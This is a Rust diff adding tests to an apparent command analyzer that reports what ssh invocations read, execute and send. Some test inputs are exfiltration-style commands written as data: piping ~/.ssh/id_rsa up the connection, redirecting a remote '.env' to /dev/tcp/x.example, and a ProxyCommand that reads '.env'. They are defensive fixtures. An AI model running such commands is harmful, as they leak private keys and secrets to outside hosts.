@@ -122,3 +122,68 @@ fn remote_command(cx: &mut WalkCx<'_>, host: &str, remote: &[Expanded]) {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analyze::testing::{Harness, path, run};
+
+    #[test]
+    fn a_connection_to_the_host_and_port() {
+        assert_eq!(run(&Ssh, &["ssh", "u@h.example"]), ["send h.example:22 []"]);
+        assert_eq!(run(&Ssh, &["ssh", "-p", "2222", "h"]), ["send h:2222 []"]);
+        assert_eq!(
+            run(&Ssh, &["ssh", "-o", "Port=2200", "h"]),
+            ["send h:2200 []"]
+        );
+        assert_eq!(
+            run(&Ssh, &["ssh", "-i", "key", "h"]),
+            ["read key", "send h:22 []"]
+        );
+        assert_eq!(run(&Ssh, &["ssh", "$H"]), ["send dynamic $H []"]);
+    }
+
+    #[test]
+    fn stdin_goes_up_the_connection() {
+        let mut h = Harness::new().stdin(Stdin::File(path("~/.ssh/id_rsa")));
+        assert_eq!(h.model(&Ssh, &["ssh", "h"]), ["send h:22 [~/.ssh/id_rsa]"]);
+    }
+
+    #[test]
+    fn the_remote_command_reports_what_reaches_past_the_host() {
+        assert_eq!(
+            run(
+                &Ssh,
+                &["ssh", "h", "cat", ".env", ">", "/dev/tcp/x.example/1"]
+            ),
+            ["send h:22 []", "send x.example:1 []", "exec cat"]
+        );
+        assert_eq!(
+            run(&Ssh, &["ssh", "h", "git push"]),
+            [
+                "send h:22 []",
+                "exec git",
+                "send dynamic git remote origin on h []"
+            ]
+        );
+        let computed = run(&Ssh, &["ssh", "h", "$CMD"]);
+        assert_eq!(
+            computed[1],
+            "unparseable: the ssh remote command is only known at run time"
+        );
+    }
+
+    #[test]
+    fn local_commands_in_options_run_here_and_tunnels_are_unparseable() {
+        assert_eq!(
+            run(&Ssh, &["ssh", "-o", "ProxyCommand=cat .env", "h"]),
+            ["exec cat", "read .env", "send h:22 []"]
+        );
+        assert_eq!(
+            run(&Ssh, &["ssh", "-o", "ProxyCommand=none", "h"]),
+            ["send h:22 []"]
+        );
+        let tunnel = run(&Ssh, &["ssh", "-L", "8080:a:80", "h"]);
+        assert_eq!(tunnel[0], "unparseable: ssh -L 8080:a:80 opens a tunnel");
+    }
+}
